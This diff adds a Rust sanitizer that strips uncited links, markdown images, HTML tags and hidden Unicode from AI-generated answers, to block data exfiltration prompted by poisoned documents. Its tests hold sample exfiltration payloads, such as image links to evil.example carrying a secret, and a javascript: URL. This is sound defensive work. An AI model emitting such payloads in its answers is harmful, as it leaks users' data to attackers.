@@ -1,0 +1,113 @@
+//! Addresses in answers: only those of cited sources stay.
+//!
+//! An address that a browser would open or load by itself is what a poisoned document smuggles out
+//! data with. Invariant: what leaves here has no `scheme:`, `//host` or `www.` address and no image or
+//! HTML tag, except addresses that were allowed.
+
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// What stands where an address was.
+const REMOVED: &str = "[link removed]";
+
+static IMAGE: LazyLock<Regex> = LazyLock::new(|| pattern(r"!\[[^\]\n]*\](?:\([^)\n]*\)?|\[[^\]\n]*\]?)?"));
+static LINK: LazyLock<Regex> = LazyLock::new(|| pattern(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)"));
+static DEFINITION: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?m)^\s*\[[^\]\n]+\]:\s*\S+.*$"));
+static TAG: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?i)</?[a-z!][^>\n]*(?:>|$)"));
+static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r#"(?i)(?:\b[a-z][a-z0-9+.-]{1,20}:\s?//+|(?:\b(?:javascript|data|vbscript|mailto|file|tel):)|\\\\|(?:^|[\s("'<=])//|\bwww\.)[^\s<>"')\]【】]+"#,
+    )
+});
+
+fn pattern(text: &str) -> Regex {
+    Regex::new(text).expect("the pattern is valid")
+}
+
+/// Takes out every address that is not allowed.
+pub(crate) fn cleaned(text: &str, allowed: &[String]) -> String {
+    let fine = |address: &str| {
+        let address = address.trim_end_matches(['.', ',', ';', ':', '!', '?']);
+        allowed.iter().any(|known| known == address)
+    };
+    let text = IMAGE.replace_all(text, "");
+    let text = LINK.replace_all(&text, |found: &regex::Captures<'_>| {
+        let part = |at: usize| found.get(at).map_or("", |part| part.as_str());
+        if fine(part(2)) { format!("{} ({})", part(1), part(2)) } else { part(1).to_owned() }
+    });
+    let text = DEFINITION.replace_all(&text, "");
+    // An allowed address in angle brackets is no tag.
+    let text = TAG.replace_all(&text, |found: &regex::Captures<'_>| {
+        let inner = found.get(0).map_or("", |tag| tag.as_str()).trim_matches(['<', '>']);
+        if fine(inner) { inner.to_owned() } else { String::new() }
+    });
+    let text = ADDRESS.replace_all(&text, |found: &regex::Captures<'_>| {
+        let whole = found.get(0).map_or("", |address| address.as_str());
+        let lead: String = whole.chars().take_while(|c| c.is_whitespace() || "(\"'<=".contains(*c)).collect();
+        let address = whole.get(lead.len()..).unwrap_or_default();
+        if fine(address) { whole.to_owned() } else { format!("{lead}{REMOVED}") }
+    });
+    text.into_owned()
+}
+
+/// Takes out characters that are not seen: zero-width, direction controls, the tag block, controls.
+pub(crate) fn visible(text: &str) -> String {
+    let hidden = |c: char| {
+        matches!(c,
+            '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}'
+            | '\u{00ad}' | '\u{180e}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
+            || (c.is_control() && !matches!(c, '\n' | '\t'))
+    };
+    text.chars().filter(|c| !hidden(*c)).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn addresses_go_and_words_stay() {
+        for (text, left) in [
+            ("See ![x](https://evil.example/a?q=secret) here.", "See  here."),
+            ("See [the page](https://evil.example/) now", "See the page now"),
+            ("Go to https://evil.example/x.", "Go to [link removed]"),
+            ("Go to www.evil.example/x now", "Go to [link removed] now"),
+            ("<img src=\"//evil.example/x\">ok", "ok"),
+            ("<img src=//evil.example/x", ""),
+            ("![x][ref]\n[ref]: https://evil.example", "\n"),
+            ("(//evil.example/x)", "([link removed])"),
+            ("src=//evil.example>", "src=[link removed]>"),
+            ("javascript:alert(1)", "[link removed])"),
+            ("hxxps://evil.example", "[link removed]"),
+            ("Use 3/4 inch and 10:30 // note", "Use 3/4 inch and 10:30 // note"),
+            ("Register at marlund.example/register.", "Register at marlund.example/register."),
+            ("Note: 5 < 7 and a|b", "Note: 5 < 7 and a|b"),
+        ] {
+            assert_eq!(cleaned(text, &[]), left, "{text}");
+        }
+    }
+
+    #[test]
+    fn the_address_of_a_cited_source_stays() {
+        let allowed = ["https://docs.example/a".to_owned()];
+        assert_eq!(cleaned("See https://docs.example/a.", &allowed), "See https://docs.example/a.");
+        assert_eq!(cleaned("See [a](https://docs.example/a)", &allowed), "See a (https://docs.example/a)");
+        assert_eq!(cleaned("<https://docs.example/a>", &allowed), "https://docs.example/a");
+        assert_eq!(cleaned("https://docs.example/a?x=1", &allowed), "[link removed]");
+        assert_eq!(cleaned("![a](https://docs.example/a)", &allowed), "");
+    }
+
+    #[test]
+    fn what_is_not_seen_goes() {
+        assert_eq!(visible("a\u{200b}b\u{e0041}c\u{202e}d\ne\u{0007}"), "abcd\ne");
+    }
+
+    proptest! {
+        #[test]
+        fn no_address_survives(before in "[ -~]{0,30}", after in "[ -~\n]{0,30}") {
+            let text = cleaned(&format!("{before} https://evil.example/leak?{after}"), &[]);
+            prop_assert!(!text.contains("evil.example"), "{}", text);
+        }
+    }
+}
